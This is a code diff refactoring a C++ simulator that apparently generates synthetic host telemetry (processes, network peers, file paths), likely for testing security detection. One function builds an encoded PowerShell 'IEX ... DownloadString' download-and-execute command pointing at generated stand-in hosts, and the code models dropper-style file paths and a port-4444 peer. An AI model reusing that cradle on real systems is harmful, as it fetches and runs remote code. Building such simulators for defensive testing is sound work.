@@ -4,7 +4,6 @@
 #include <cctype>
 #include <cstdio>
 
-#include "Keel/OS/Network.h"
 #include "Keel/Utils/String.h"
 #include "tarn/import/CommandLine.h"
 
@@ -15,7 +14,6 @@ using Catalog::Program;
 
 constexpr uint32_t kHostPidSpace = 4026531836u;  // the initial pid namespace's inode
 constexpr uint32_t kContainerPidSpace = 4026532200u;
-constexpr size_t kExternalPeers = 150;
 constexpr int64_t kDayMs = 86'400'000;
 
 // Windows integrity levels (mandatory label RIDs).
@@ -23,27 +21,6 @@ constexpr uint32_t kIntegrityLow = 0x1000;
 constexpr uint32_t kIntegrityMedium = 0x2000;
 constexpr uint32_t kIntegrityHigh = 0x3000;
 constexpr uint32_t kIntegritySystem = 0x4000;
-
-std::string FormatAddress(bool ipv6, const uint8_t* bytes) {
-  Keel::Utils::String text;
-  Keel::OS::Network::FormatAddress(ipv6, bytes, text);
-  return text.str();
-}
-
-std::string V4(uint8_t a, uint8_t b, uint8_t c, uint8_t d) {
-  const uint8_t bytes[4] = {a, b, c, d};
-  return FormatAddress(false, bytes);
-}
-
-std::string V6(uint16_t w0, uint16_t w1, uint16_t w2, uint16_t w3, uint16_t w6, uint16_t w7) {
-  const uint16_t words[8] = {w0, w1, w2, w3, 0, 0, w6, w7};
-  uint8_t bytes[16];
-  for (int i = 0; i < 8; ++i) {
-    bytes[2 * i] = static_cast<uint8_t>(words[i] >> 8);
-    bytes[2 * i + 1] = static_cast<uint8_t>(words[i]);
-  }
-  return FormatAddress(true, bytes);
-}
 
 std::string BaseName(std::string_view path) {
   size_t slash = path.find_last_of("\\/");
@@ -80,7 +57,7 @@ std::vector<std::string_view> Split(std::string_view text, char separator) {
 
 }  // namespace
 
-World::World(uint64_t seed, int64_t start_ms) : random_(seed) {
+World::World(uint64_t seed, int64_t start_ms) : random_(seed), network_(random_) {
   auto programs = Catalog::Programs();
   children_.resize(programs.size());
   for (size_t i = 0; i < programs.size(); ++i) {
@@ -90,7 +67,10 @@ World::World(uint64_t seed, int64_t start_ms) : random_(seed) {
     }
   }
   MakeUsers();
-  MakeNetwork();
+  network_.Make();
+  for (int i = 0; i < 3; ++i) {
+    containers_.push_back(Hex("container" + std::to_string(random_.Next()), 64));
+  }
   Boot(start_ms);
 }
 
@@ -142,98 +122,6 @@ std::string World::Home(const User& user, bool linux) const {
   if (linux) return user.uid == 0 ? "/root" : "/home/" + user.name;
   if (user.domain == "NT AUTHORITY") return "C:\\Windows\\system32\\config\\systemprofile";
   return "C:\\Users\\" + user.name;
-}
-
-// ---- Network --------------------------------------------------------------
-
-void World::MakeNetwork() {
-  char name[16];
-  std::snprintf(name, sizeof(name), "WS-%06llX",
-                static_cast<unsigned long long>(random_.Below(0x1000000)));
-  hostname_ = name;
-  local_ipv4_ = V4(10, 20, static_cast<uint8_t>(random_.Between(2, 9)),
-                   static_cast<uint8_t>(random_.Between(2, 254)));
-  local_ipv6_ = V6(0xfd00, 0x20, 0, 0, static_cast<uint16_t>(random_.Below(0x10000)),
-                   static_cast<uint16_t>(random_.Below(0x10000)));
-  local_mac_ = "00:15:5d" + RandomMac().substr(8);
-  gateway_mac_ = "3c:52:82" + RandomMac().substr(8);
-
-  for (const Catalog::Peer& peer : Catalog::InternalPeers()) {
-    peers_.push_back({std::string(peer.host), std::string(peer.address), peer.port,
-                      std::string(peer.protocol), true, false});
-  }
-  internal_count_ = peers_.size();
-  for (size_t i = 0; i < kExternalPeers; ++i) {
-    RemoteHost peer;
-    peer.host = std::string(random_.Pick(Catalog::HostWords())) + "." +
-                std::string(random_.Pick(Catalog::DomainNames()));
-    if (random_.Chance(0.3)) {
-      peer.address = V6(0x2001, 0xdb8, static_cast<uint16_t>(random_.Below(0x10000)), 0, 0,
-                        static_cast<uint16_t>(random_.Between(1, 0xffff)));
-    } else {
-      peer.address = V4(random_.Chance(0.5) ? 198 : 203, random_.Chance(0.5) ? 51 : 0,
-                        static_cast<uint8_t>(random_.Chance(0.5) ? 100 : 113),
-                        static_cast<uint8_t>(random_.Between(1, 199)));
-    }
-    peer.port = random_.Chance(0.85) ? 443 : 80;
-    peer.protocol = peer.port == 443 ? "HTTPS" : "HTTP";
-    peers_.push_back(std::move(peer));
-  }
-  rare_begin_ = peers_.size();
-  char host[48];
-  for (int i = 0; i < 3; ++i) {
-    std::snprintf(host, sizeof(host), "cdn-%04llx.example.org",
-                  static_cast<unsigned long long>(random_.Below(0x10000)));
-    peers_.push_back({host, V4(203, 0, 113, static_cast<uint8_t>(200 + random_.Below(50))),
-                      static_cast<uint16_t>(i == 0 ? 443 : (i == 1 ? 8443 : 4444)), "HTTPS", false,
-                      true});
-  }
-  peers_.push_back(
-      {"relay.example.net", V6(0x2001, 0xdb8, 0xbad, 0xc0de, 0, 0x17), 443, "HTTPS", false, true});
-  for (int i = 0; i < 3; ++i)
-    containers_.push_back(Hex("container" + std::to_string(random_.Next()), 64));
-}
-
-std::string World::RandomMac() {
-  char text[18];
-  uint64_t r = random_.Next();
-  std::snprintf(text, sizeof(text), "%02x:%02x:%02x:%02x:%02x:%02x",
-                static_cast<unsigned>(r & 0xfe), static_cast<unsigned>((r >> 8) & 0xff),
-                static_cast<unsigned>((r >> 16) & 0xff), static_cast<unsigned>((r >> 24) & 0xff),
-                static_cast<unsigned>((r >> 32) & 0xff), static_cast<unsigned>((r >> 40) & 0xff));
-  return text;
-}
-
-uint32_t World::EphemeralPort(bool linux) {
-  return static_cast<uint32_t>(linux ? random_.Between(32768, 60999)
-                                     : random_.Between(49152, 65535));
-}
-
-size_t World::PickPeer(const Process& actor) {
-  if (IsDropper(actor) && random_.Chance(0.7)) return RarePeer();
-  if (random_.Chance(actor.IsLinux() ? 0.15 : 0.3)) return random_.Below(internal_count_);
-  return internal_count_ + random_.Skewed(rare_begin_ - internal_count_, 2.5);
-}
-
-size_t World::PeerFor(std::string_view protocol, const Process& actor) {
-  std::vector<size_t> matches;
-  for (size_t i = 0; i < internal_count_; ++i) {
-    if (peers_[i].protocol == protocol) matches.push_back(i);
-  }
-  return matches.empty() ? PickPeer(actor) : matches[random_.Below(matches.size())];
-}
-
-void World::OpenConnection(const Connection& c) {
-  open_.push_back(c);
-  if (open_.size() > 512) open_.pop_front();  // long-lived ones simply never close here
-}
-
-bool World::CloseConnection(Connection& c) {
-  if (open_.empty()) return false;
-  size_t i = random_.Below(std::min<size_t>(open_.size(), 32));
-  c = open_[i];
-  open_.erase(open_.begin() + static_cast<std::ptrdiff_t>(i));
-  return true;
 }
 
 // ---- Processes -------------------------------------------------------------
@@ -431,7 +319,7 @@ void World::SetCommandLine(Process& p, const User& user) {
 }
 
 std::string World::EncodedPowerShell() {
-  const RemoteHost& peer = peers_[RarePeer()];
+  const RemoteHost& peer = network_.Peer(network_.RarePeer());
   std::string script = "IEX (New-Object Net.WebClient).DownloadString('https://" + peer.host + "/" +
                        Hex(peer.host, 8) + ".ps1')";
   std::string utf16;
@@ -492,10 +380,7 @@ bool World::Terminate(Process& ended) {
   }
   size_t i = WeightedChoice(weights).Pick(random_);
   // Its connections end with it.
-  const uint64_t puid = live_[i].puid;
-  open_.erase(std::remove_if(open_.begin(), open_.end(),
-                             [puid](const Connection& c) { return c.puid == puid; }),
-              open_.end());
+  network_.CloseConnectionsOf(live_[i].puid);
   ended = std::move(live_[i]);
   live_[i] = std::move(live_.back());
   live_.pop_back();
@@ -574,7 +459,7 @@ std::string World::FilePath(const Process& actor) {
     if (name == "postgres")
       return "/var/lib/postgresql/data/base/16384/" + std::to_string(random_.Between(1200, 1300));
     if (name == "systemd-journald")
-      return "/var/log/journal/" + Hex(hostname_, 32) + "/system.journal";
+      return "/var/log/journal/" + Hex(network_.Hostname(), 32) + "/system.journal";
     if (name == "apt-get")
       return "/var/cache/apt/archives/" + std::string(random_.Pick(Catalog::Words())) + "_1." +
              std::to_string(random_.Below(20)) + "_amd64.deb";
@@ -621,7 +506,7 @@ std::string World::FilePath(const Process& actor) {
       default: return "C:\\Windows\\Prefetch\\" + name + "-" + Hex(name, 8) + ".pf";
     }
   }
-  if (IsDropper(actor)) {
+  if (actor.IsDropper()) {
     return random_.Chance(0.5)
                ? home + "\\AppData\\Roaming\\Microsoft\\" + hex8 + ".dat"
                : "C:\\Users\\Public\\" + std::string(random_.Pick(Catalog::Words())) + ".bat";
@@ -661,11 +546,9 @@ std::string World::Expand(std::string_view text, const User& user, bool linux) {
     } else if (key == "src") {
       out += random_.Pick(Catalog::SourceNames());
     } else if (key == "host") {
-      out += peers_[random_.Below(rare_begin_)].host;
+      out += network_.CommonHost();
     } else if (key == "url") {
-      out += "https://" +
-             peers_[internal_count_ + random_.Skewed(rare_begin_ - internal_count_)].host +
-             std::string(random_.Pick(Catalog::UrlPaths()));
+      out += "https://" + network_.OutsideHost() + std::string(random_.Pick(Catalog::UrlPaths()));
     } else if (key == "repo") {
       out += std::string(random_.Pick(Catalog::Words())) + "-" +
              std::string(random_.Pick(Catalog::Words()));
